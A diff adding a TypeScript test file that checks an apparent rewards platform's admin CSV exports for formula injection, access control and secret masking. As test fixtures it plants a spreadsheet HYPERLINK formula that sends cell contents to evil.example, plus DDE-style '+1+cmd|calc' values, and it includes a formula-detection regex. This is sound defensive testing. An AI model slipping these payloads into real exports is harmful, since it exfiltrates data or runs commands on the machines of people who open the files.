@@ -1,0 +1,153 @@
+import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import { after, describe, it } from 'node:test';
+import { sql } from '#platform/database.ts';
+import { testSite } from './site.ts';
+
+/** Operators' lists as files for a spreadsheet. Members choose the names in them. */
+const site = await testSite({ after });
+const as = await site.member({ role: 'admin' });
+const evil = '=HYPERLINK("https://evil.example?"&A1,"open")';
+const secret = 'a secret of a test';
+const provider = { secret, name: '+1+cmd|calc', apiKey: '1', isEnabled: true };
+await site.call('PUT', '/api/admin/providers/cpx', { as, body: provider });
+await site.call('PUT', '/api/admin/payment-methods/paypal', { as, body: { isEnabled: true } });
+
+const evilMember = async (options: Parameters<typeof site.member>[0]) => {
+  const member = await site.member(options);
+  await site.owner.rows(sql`update members.members set first_name = ${evil} where id = ${member.id}`);
+  return member;
+};
+
+/** The cells of a CSV text (RFC 4180), row by row. */
+function cellsOf(text: string): string[][] {
+  assert.ok(text.endsWith('\r\n'));
+  const rows: string[][] = [[]];
+  for (const [, quoted, bare = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
+    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare);
+    if (end === '\r\n') rows.push([]);
+  }
+  return rows.slice(0, -1);
+}
+
+async function exported(path: string) {
+  const { status, headers, body } = await site.call('GET', path, { as });
+  assert.equal(status, 200);
+  assert.equal(headers.get('content-type'), 'text/csv; charset=utf-8');
+  assert.match(headers.get('content-disposition') ?? '', /^attachment; filename="[a-z-]+\.csv"$/);
+  const [header = [], ...rows] = cellsOf(body);
+  assert.ok(rows.every((row) => row.length === header.length));
+  return { header, rows, column: (name: string) => rows.map((row) => row[header.indexOf(name)]) };
+}
+
+function assertNoFormula(rows: string[][]): void {
+  for (const cell of rows.flat()) assert.ok(/^-?\d+(\.\d+)?$/.test(cell) || !/^\s*[=+\-@]/.test(cell), cell);
+}
+
+describe('the operators’ withdrawals as CSV', () => {
+  it('have a header, every row past one page, and no cell that is a formula', async () => {
+    for (let members = 0; members < 21; members += 1) {
+      const member = await evilMember({ balancePoints: 5_000n, isPhoneVerified: true });
+      for (let requests = 0; requests < 5; requests += 1) {
+        const body = {
+          amountPoints: '1000',
+          method: 'paypal',
+          recipientInfo: { address: `+cmd${requests}@example.com` },
+        };
+        assert.equal((await site.call('POST', '/api/withdrawal', { as: member, body })).status, 201);
+      }
+    }
+    const ids = (
+      await site.owner.rows<{ id: string }>(sql`
+      select id::text as id from withdrawals.withdrawals where state = 'pending'`)
+    ).map(({ id }) => id);
+    assert.ok(ids.length >= 105);
+    const { header, rows, column } = await exported('/api/admin/withdrawals-data?status=pending&format=csv');
+    assert.deepEqual(header.slice(0, 7), [
+      'id',
+      'userId',
+      'userName',
+      'userEmail',
+      'method',
+      'status',
+      'amount',
+    ]);
+    assert.deepEqual(column('id').sort(), ids.sort());
+    assertNoFormula(rows);
+    assert.ok(column('userName').includes(`'${evil}`));
+    assert.ok(column('address').includes("'+cmd0@example.com"));
+  });
+  it('are only the page that was asked for, where one was', async () => {
+    const { rows } = await exported('/api/admin/withdrawals-data?status=pending&format=csv&page=2&limit=10');
+    assert.equal(rows.length, 10);
+  });
+  it('have their header also where there is no row', async () => {
+    const { header, rows } = await exported('/api/admin/withdrawals-data?q=nobody-at-all&format=csv');
+    assert.deepEqual([header[0], header.includes('rejectionReason'), rows], ['id', true, []]);
+  });
+});
+
+describe('the earnings that wait as CSV', () => {
+  it('have a header, every row, and no cell that is a formula', async () => {
+    const member = await evilMember({});
+    for (let transaction = 0; transaction < 3; transaction += 1) {
+      const hash = createHash('md5').update(`9000${transaction}-${secret}`).digest('hex');
+      const query = `status=1&trans_id=9000${transaction}&user_id=${member.id}&amount_local=10000&secure_hash=${hash}`;
+      assert.equal((await site.call('GET', `/api/webhooks/postback/cpx?${query}`)).body, '1');
+    }
+    const { header, rows, column } = await exported(`/api/admin/pending-earnings?q=${member.id}&format=csv`);
+    assert.deepEqual(header, [
+      'id',
+      'createdAt',
+      'userId',
+      'userFirstName',
+      'userEmail',
+      'amount',
+      'source',
+      'description',
+    ]);
+    assert.deepEqual(column('amount'), ['10000', '10000', '10000']);
+    assert.deepEqual(column('userFirstName'), Array(3).fill(`'${evil}`));
+    assert.deepEqual(column('source'), Array(3).fill("'+1+cmd|calc"));
+    assertNoFormula(rows);
+  });
+});
+
+describe('the providers as CSV', () => {
+  it('have a header, every row, masked secrets, and no cell that is a formula', async () => {
+    const { header, rows, column } = await exported('/api/admin/providers?format=csv');
+    assert.deepEqual(header.slice(0, 3), ['id', 'name', 'type']);
+    const { n } = await site.owner.one<{ n: bigint }>(sql`select count(*) as n from earning.providers`);
+    assert.equal(BigInt(rows.length), n);
+    assert.ok(column('name').includes("'+1+cmd|calc"));
+    assert.deepEqual([...new Set(column('secret'))].sort(), ['', '***encrypted***']);
+    assertNoFormula(rows);
+  });
+});
+
+describe('CSV of operators', () => {
+  for (const path of ['withdrawals-data', 'pending-earnings', 'providers'])
+    it(`of ${path} is theirs alone`, async () => {
+      const url = `/api/admin/${path}?format=csv`;
+      const [visitor, member] = [
+        await site.call('GET', url),
+        await site.call('GET', url, { as: await site.member() }),
+      ];
+      assert.deepEqual([visitor.status, visitor.problem.code], [401, 'unauthenticated']);
+      assert.deepEqual([member.status, member.problem.code], [403, 'forbidden']);
+    });
+});
+
+describe('a member’s own history as CSV', () => {
+  it('holds every movement of theirs and nobody else’s', async () => {
+    const [member] = [await site.member({ balancePoints: 500n }), await site.member({ balancePoints: 7n })];
+    const { status, headers, body } = await site.call('GET', '/api/user/history?format=csv', { as: member });
+    assert.equal(status, 200);
+    assert.match(headers.get('content-type') ?? '', /^text\/csv/);
+    const [header = [], ...rows] = cellsOf(body);
+    assert.deepEqual(
+      rows.map((row) => row[header.indexOf('amount')]),
+      ['500'],
+    );
+  });
+});
